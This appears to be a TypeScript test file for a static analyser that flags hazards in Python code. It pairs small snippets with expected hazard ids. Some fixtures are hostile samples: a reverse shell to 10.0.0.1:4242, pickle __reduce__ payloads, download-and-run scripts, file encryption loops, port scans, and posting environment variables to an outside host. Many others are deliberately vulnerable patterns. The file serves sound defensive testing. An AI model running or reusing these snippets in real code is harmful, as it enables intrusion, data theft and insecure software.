import assert from 'node:assert/strict';
import { test } from 'node:test';
import { pythonHazards } from '../../../../src/rules/code/python-hazards.ts';
import { assertLinear } from '../../../linear-time.ts';
import { analysed, hazardsOf } from './hazards-of.ts';

/** Ids of this part; other parts of the analysis tell hazards of their own about the same lines. */
const ours = new Set(pythonHazards.map(({ id }) => id));

function told(source: string): readonly string[] {
  return [...new Set(hazardsOf(source).map((each) => each.slice(each.indexOf(' ') + 1)))].filter((id) =>
    ours.has(id),
  );
}

/** A statement or two, and what is told of them. */
type Case = readonly [string, ...string[]];

const supply: readonly Case[] = [
  ['import torch\ntorch.load("m.pt")', 'torch-load-runs-pickle'],
  ['import torch\ntorch.load("m.pt", weights_only=False)', 'torch-load-runs-pickle'],
  ['from torch import load as l\nl("m.pt")', 'torch-load-runs-pickle'],
  ['import torch\ntorch.load("m.pt", weights_only=True)'],
  ['import numpy as np\nnp.load("a.npy", allow_pickle=True)', 'numpy-load-runs-pickle'],
  ['import numpy as np\nnp.load("a.npy")'],
  ['import yaml\nyaml.load(open("a"))', 'yaml-makes-objects'],
  ['import yaml\nyaml.load(open("a"), Loader=yaml.Loader)', 'yaml-makes-objects'],
  ['import yaml\nyaml.load(open("a"), Loader=yaml.CSafeLoader)'],
  ['import yaml\nfrom yaml import SafeLoader\nyaml.load(open("a"), SafeLoader)'],
  ['import yaml\nyaml.safe_load(open("a"))'],
  ['import keras\nkeras.models.load_model("m.keras", safe_mode=False)', 'keras-runs-lambda'],
  ['import keras\nkeras.models.load_model("m.keras")'],
  [
    'import pickle, requests\npickle.loads(requests.get("http://x", timeout=1).content)',
    'deserialises-untrusted-data',
  ],
  ['import pickle\npickle.load(open("mine.pkl", "rb"))'],
  ['from transformers import AutoModel\nAutoModel.from_pretrained("org/m")', 'unpinned-model'],
  [
    'from transformers import AutoModel\nAutoModel.from_pretrained("org/m", revision="main")',
    'unpinned-model',
  ],
  [`from transformers import AutoModel\nAutoModel.from_pretrained("org/m", revision="${'a'.repeat(40)}")`],
  ['from transformers import AutoModel\nAutoModel.from_pretrained("./org")'],
  ['def f(name, Model):\n    return Model.from_pretrained(name)\nf'],
  [
    'from transformers import AutoModel\nAutoModel.from_pretrained("org/m", trust_remote_code=True)',
    'unpinned-model',
    'trusts-remote-code',
  ],
  [
    `from transformers import AutoModel\nAutoModel.from_pretrained("org/m", trust_remote_code=True, revision="${'a'.repeat(40)}")`,
    'trusts-pinned-code',
  ],
  ['import torch\ntorch.hub.load("org/repo", "m")', 'unpinned-hub-code'],
  [`import torch\ntorch.hub.load("org/repo:${'a'.repeat(40)}", "m")`],
  ['from datasets import load_dataset\nload_dataset("org/set")', 'unpinned-model'],
];

const attacks: readonly Case[] = [
  [
    'import socket,subprocess,os\ns=socket.socket()\ns.connect(("10.0.0.1",4242))\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])',
    'reverse-shell',
  ],
  [
    'import socket,subprocess\ns=socket.socket()\ns.connect(("h",1))\nsubprocess.Popen(["/bin/sh"],stdin=s,stdout=s)',
    'reverse-shell',
  ],
  ['import subprocess\nsubprocess.Popen(["ls"], stdout=subprocess.PIPE)'],
  ['x = ().__class__.__base__.__subclasses__()', 'object-graph-walk'],
  ['x = "".__class__.__mro__[1].__subclasses__()', 'object-graph-walk'],
  ['class A: pass\nfor c in A.__subclasses__(): print(c)'],
  ['def f(): pass\nprint(f.__globals__["f"])'],
  ['url = "stratum+tcp://pool.example:3333"', 'mining-pool'],
  ['hook = "https://discord.com/api/webhooks/1/abc"', 'data-drop-point'],
  ['"""See https://discord.com for help with the webhook."""'],
];

const secrets: readonly Case[] = [
  ['password = "Tr0ub4dor&3xyz!"', 'hardcoded-credential'],
  ['api_key = "8f14e45fceea167a5a36dedd4bea2543"', 'hardcoded-credential'],
  ['password = "admin"', 'hardcoded-password'],
  ['def f(password="letmein1"): pass', 'hardcoded-password'],
  ['def f(password): return password == "hunter2"', 'hardcoded-password'],
  ['config = {"password": "hunter2"}', 'hardcoded-password'],
  ['class C:\n    pad_token = "<pad>"\n    mask_token = "[MASK]"\n    unk_token: str = "<unk>"'],
  ['tokenizer = T(bos_token="<s>", eos_token="</s>", sep_token="[SEP]")'],
  ['password = "<your password>"\napi_key = "YOUR_API_KEY"\nsecret = "xxxxxxxx"\npassword = ""'],
  ['secret_key_name = "config.secret.path"'],
  ['import os\npassword = os.environ["DB_PASSWORD"]'],
  ['import random\notp = random.randint(0, 9999)', 'predictable-secret'],
  [
    'import random\ndef generate_password():\n    return "".join(random.choice("abc") for _ in range(8))\ngenerate_password()',
    'predictable-secret',
  ],
  [
    'import random\ndef getSessionID():\n    return random.randint(0, 9)\ngetSessionID()',
    'predictable-secret',
  ],
  ['import random\nindex = random.randint(0, 9)\nnext_token = random.choice([1])\nseed = random.random()'],
  ['import os\nprint(os.environ["API_SECRET"])', 'secret-shown'],
  ['def f(password):\n    print(f"got {password}")\nf("x")', 'secret-shown'],
  ['def f(password):\n    print(len(password), bool(password))\nf("x")'],
  ['import jwt\njwt.decode(t, verify=False)', 'jwt-not-verified'],
  ['import jwt\njwt.decode(t, k, options={"verify_signature": False})', 'jwt-not-verified'],
  ['import jwt\njwt.decode(t, k, algorithms=["HS256"])'],
  ['def f(hmac_signature, given):\n    return hmac_signature == given\nf(1, 2)', 'timing-unsafe-comparison'],
  ['import hashlib\ndef f(path, want):\n    return hashlib.sha256(path).hexdigest() == want\nf'],
];

const injection: readonly Case[] = [
  ['def f(c, n):\n    c.execute("SELECT * FROM t WHERE n = \'%s\'" % n)\nf', 'sql-from-formatting'],
  ['def f(c, n):\n    c.execute(f"DELETE FROM t WHERE n = {n}")\nf', 'sql-from-formatting'],
  ['def f(c, n):\n    q = "select * from t where n = " + n\n    c.execute(q)\nf', 'sql-from-formatting'],
  ['def f(c, n):\n    c.execute("SELECT * FROM t WHERE n = %s", (n,))\nf'],
  ['def f(n):\n    return f"Select {n} items from the list"\nf'],
  ['def f(n):\n    return "update the {} from the set".format(n)\nf'],
  [
    'from flask import request, render_template_string\ndef v():\n    return render_template_string(request.args["t"])\nv()',
    'template-injection',
  ],
  ['from flask import render_template_string\nrender_template_string("<b>{{ x }}</b>", x=1)'],
  ['import jinja2\njinja2.Environment()', 'unescaped-template'],
  ['import jinja2\njinja2.Environment(autoescape=jinja2.select_autoescape())'],
  [
    'from jinja2.sandbox import ImmutableSandboxedEnvironment\nImmutableSandboxedEnvironment(trim_blocks=True)',
  ],
  [
    'from django.utils.safestring import mark_safe\ndef f(x):\n    return mark_safe("<b>%s</b>" % x)\nf',
    'html-marked-safe',
  ],
  ['from django.utils.safestring import mark_safe\nmark_safe("<b>x</b>")'],
  [
    'import requests\nfrom flask import request\ndef v():\n    return requests.get(request.args["u"], timeout=1)\nv()',
    'request-forgery',
  ],
  ['from flask import request\ndef v():\n    return open(request.args["p"])\nv()', 'path-traversal'],
  [
    'from flask import request, redirect\ndef v():\n    return redirect(request.args["next"])\nv()',
    'open-redirect',
  ],
  ['import re\nre.compile(r"(a+)+$")', 'exponential-pattern'],
  ['import re\nre.compile(r"(\\w+\\s?)*$")', 'exponential-pattern'],
  ['import re\nre.compile(r"^(?:[a-z]+,)*[a-z]+$")'],
  ['import re\nre.compile(r"[^\\W\\d_]+|\\d+(?:\\.\\d+)*")'],
  ['import tarfile\ntarfile.open("a.tar").extractall("x")', 'archive-writes-outside'],
  ['import tarfile\nwith tarfile.open("a.tar") as t:\n    t.extractall("x", filter="data")'],
  ['import zipfile\nzipfile.ZipFile("a.zip").extractall("x")'],
  ['from lxml import etree\netree.XMLParser(resolve_entities=True)', 'xml-external-entities'],
];

const connections: readonly Case[] = [
  ['import requests\nrequests.get("https://x", verify=False, timeout=1)', 'tls-not-verified'],
  ['import ssl\nc = ssl.create_default_context()\nc.check_hostname = False', 'tls-not-verified'],
  ['import ssl\nssl._create_default_https_context = ssl._create_unverified_context', 'tls-not-verified'],
  ['import ssl\nssl.wrap_socket(s, ssl_version=ssl.PROTOCOL_SSLv3)', 'old-tls-version'],
  [
    'import paramiko\nc = paramiko.SSHClient()\nc.set_missing_host_key_policy(paramiko.AutoAddPolicy())',
    'host-key-not-verified',
  ],
  ['import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 80))', 'binds-all-interfaces'],
  ['import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 80))'],
  ['from flask import Flask\napp = Flask(__name__)\napp.run(debug=True)', 'debug-server'],
  ['from flask import Flask\napp = Flask(__name__)\napp.run()'],
  ['import requests\nrequests.get("https://x")', 'no-timeout'],
  ['import requests\nrequests.get("https://x", timeout=5)'],
  ['import hashlib\nhashlib.md5(b"x")', 'weak-hash'],
  ['import hashlib\nhashlib.md5(b"x", usedforsecurity=False)'],
  [
    'import hashlib\ndef f(password):\n    return hashlib.sha256(password.encode()).hexdigest()\nf',
    'fast-password-hash',
  ],
  ['from Crypto.Cipher import DES\nDES.new(k, DES.MODE_CBC)', 'weak-cipher'],
  ['from Crypto.Cipher import AES\nAES.new(k, AES.MODE_ECB)', 'weak-cipher'],
  ['from Crypto.Cipher import AES\nAES.new(k, AES.MODE_CBC, b"0123456789abcdef")', 'fixed-nonce'],
  [
    'from cryptography.hazmat.primitives.asymmetric import rsa\nrsa.generate_private_key(65537, 1024)',
    'weak-key',
  ],
  ['from cryptography.hazmat.primitives.asymmetric import rsa\nrsa.generate_private_key(65537, 3072)'],
  ['import tempfile\ntempfile.mktemp()', 'racy-temporary-file'],
  ['import os\nos.chmod("x", 0o777)', 'loose-permissions'],
  ['import os\nos.chmod("x", 0o600)'],
  ['try:\n    f()\nexcept Exception:\n    pass', 'swallowed-exception'],
  ['try:\n    import x\nexcept ImportError:\n    pass'],
  ['def f(user):\n    assert user.is_admin\nf', 'assert-as-guard'],
  ['def f(x):\n    assert x.shape == (1, 2)\nf'],
];

const more: readonly Case[] = [
  [
    'import torch, functools\ntorch.load = functools.partial(torch.load, weights_only=False)',
    'library-patched',
  ],
  ['import sys\nclass Fake: pass\nsys.modules["ssl"] = Fake()', 'library-patched'],
  ['import sys\nclass Lazy: pass\nsys.modules[__name__] = Lazy()'],
  [
    'import torch\nclass M(torch.nn.Module):\n    def __init__(self, fast):\n        self.forward = self.slow\n    def slow(self): pass',
  ],
  ['import logging\nlogging.root.level = 10'],
  ['import os\ndef f(name):\n    return getattr(os, name)()\nf', 'system-function-by-name'],
  ['import os\nn = getattr(os, "sched_getaffinity", None)'],
  ['import os\nclass P:\n    def __reduce__(self):\n        return (os.system, ("id",))', 'pickle-payload'],
  ['class P:\n    def __reduce__(self):\n        return (P, (1,))'],
  [
    'import urllib.request, subprocess\nurllib.request.urlretrieve("https://x/y", "y.sh")\nsubprocess.run(["bash", "y.sh"])',
    'starts-download',
  ],
  [
    'import urllib.request, subprocess\nurllib.request.urlretrieve("https://x/y", "y.csv")\nsubprocess.run(["ls", "-l"])',
  ],
  [
    'import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor r, d, n in os.walk("a"):\n    for x in n:\n        data = open(x, "rb").read()\n        f.encrypt(data)',
    'encrypts-files',
  ],
  ['from cryptography.fernet import Fernet\nFernet(k).encrypt(b"text")'],
  [
    'import socket\ns = socket.socket()\nfor p in range(9):\n    s.connect_ex(("10.0.0.1", p))',
    'scans-ports',
  ],
  ['import socket\ns = socket.socket()\nfor p in range(9):\n    s.connect_ex(("localhost", p))'],
  [
    'import requests\nrequests.post("https://x.example/", data=open("notes.txt").read(), timeout=1)',
    'local-data-sent',
  ],
  ['import socket\ns = socket.socket()\ns.sendall(open("notes.txt", "rb").read())', 'local-data-sent-openly'],
  [
    'import requests, os\nrequests.post("https://x.example/", json=dict(os.environ), timeout=1)',
    'secret-sent',
  ],
  [
    'import requests, os\nrequests.get("https://x.example/", headers={"Authorization": os.environ["API_TOKEN"]}, timeout=1)',
  ],
  ['from flask import request\ndef v():\n    return "<b>" + request.args["x"]\nv()', 'html-from-request'],
  [
    'from flask import request, render_template\ndef v():\n    return render_template("x.html", x=request.args["x"])\nv()',
  ],
  ['def v(request, response):\n    response["Set-Cookie"] = request.GET["x"]\nv', 'header-from-request'],
  [
    'from flask import request\ndef v():\n    request.files["f"].save("up/" + request.files["f"].filename)\nv()',
    'path-traversal',
  ],
  [
    'import traceback\nfrom flask import Flask\ndef v():\n    return traceback.format_exc()\nv()',
    'error-details-shown',
  ],
  ['import re\nre.sub(r"<script.*?>", "", x)', 'html-filtered-by-pattern'],
  ['import re\nre.compile("(www|beta).example.com/")', 'host-pattern-too-wide'],
  ['import re\nre.compile(r"(www|beta)\\.example\\.com/")'],
  ['def f(url):\n    return "example.com" in url\nf', 'host-pattern-too-wide'],
  ['import MySQLdb\nMySQLdb.connect(host="h", passwd="")', 'empty-password'],
  ['uri = "postgresql://user:@db.example/x"', 'empty-password'],
  ['uri = "postgresql://user:s3cretpw@db.example/x"', 'hardcoded-password'],
  ['uri = "https://example.com/a:b@c"'],
  [
    'import random, string\nname = "".join(random.choice(string.ascii_letters) for _ in range(8))',
    'predictable-text',
  ],
  ['import smtplib\nsmtplib.SMTP("h")', 'cleartext-protocol'],
  ['import smtplib\ns = smtplib.SMTP("h")\ns.starttls()'],
  ['import ftplib\nftplib.FTP("h")', 'cleartext-protocol'],
  ['import ftplib\nftplib.FTP_TLS("h")'],
  ['import xml.etree.ElementTree as E\nE.parse("x")', 'xml-entities'],
  ['import hashlib\nhashlib.pbkdf2_hmac("sha256", p, b"D8VxSmTZt2E2YV45", 1)', 'fixed-nonce'],
  ['import hashlib, os\nhashlib.pbkdf2_hmac("sha256", p, os.urandom(16), 1)'],
  ['from django.views.decorators.csrf import csrf_exempt\n@csrf_exempt\ndef v(r): pass', 'csrf-switched-off'],
  ['def f(r):\n    r.set_cookie("a", "b")\nf', 'insecure-cookie'],
  ['def f(r):\n    r.set_cookie("a", "b", secure=True, httponly=True)\nf'],
  ['def Popen(c, **k): pass\nPopen("x", shell=True)', 'shell-switched-on'],
  ['def run(c, **k): pass\nrun("x", shell=True)', 'shell-switched-on'],
  ['open("/tmp/x", "w")', 'fixed-temporary-path'],
  ['open("/tmp/x")'],
];

for (const [name, cases] of Object.entries({ supply, attacks, secrets, injection, connections, more })) {
  test(`${name}: what is unsafe is told, and what only looks like it is not`, () => {
    const wrong: string[] = [];
    for (const [source, ...expected] of cases) {
      const found = told(source);
      if (JSON.stringify([...found].sort()) !== JSON.stringify([...expected].sort()))
        wrong.push(
          `${source}\n  expected ${expected.join(', ') || 'nothing'}; told ${found.join(', ') || 'nothing'}`,
        );
    }
    assert.deepEqual(wrong, [], wrong.join('\n'));
  });
}

test('a rewrite is code that mends the call', () => {
  const rewrites = (source: string): readonly (string | undefined)[] =>
    analysed(source).hazards.map(({ rewrite }) => rewrite);
  assert.deepEqual(rewrites('import torch\ntorch.load("m.pt")'), ['torch.load("m.pt", weights_only=True)']);
  assert.deepEqual(rewrites('import yaml\nyaml.load(text)'), ['yaml.safe_load(text)']);
  assert.deepEqual(
    rewrites('from transformers import AutoModel\nAutoModel.from_pretrained("o/m", revision="main")'),
    ['AutoModel.from_pretrained("o/m", revision="<40-digit commit>")'],
  );
});

test('every hazard of a check has a rule that judges it', () => {
  const sources = [...supply, ...attacks, ...secrets, ...injection, ...connections, ...more];
  for (const [, ...expected] of sources) for (const id of expected) assert.ok(ours.has(id), id);
});

test('ten times the source takes about ten times the time, whatever it is full of', async () => {
  const lines: readonly (readonly [string, number])[] = [
    ['os.system("bash ./x.sh")\nurllib.request.urlretrieve(u, "x.sh")\n', 200],
    ['for p in q:\n    s.connect_ex(("10.0.0.1", p))\n', 200],
    [`x = "${'https://a.'.repeat(60)}"\n`, 200],
    [`re.compile("${'(a|'.repeat(300)}")\n`, 50],
    [`q = "SELECT ${'a '.repeat(300)}" + x\n`, 200],
    [`password = "${'aA1-'.repeat(100)}"\n`, 200],
    [`y = f"${'{x} from '.repeat(60)}"\n`, 200],
  ];
  for (const [line, count] of lines)
    await assertLinear(
      line.slice(0, 40),
      count,
      (times) => `import os, re, urllib.request\n${line.repeat(times)}`,
      hazardsOf,
    );
});
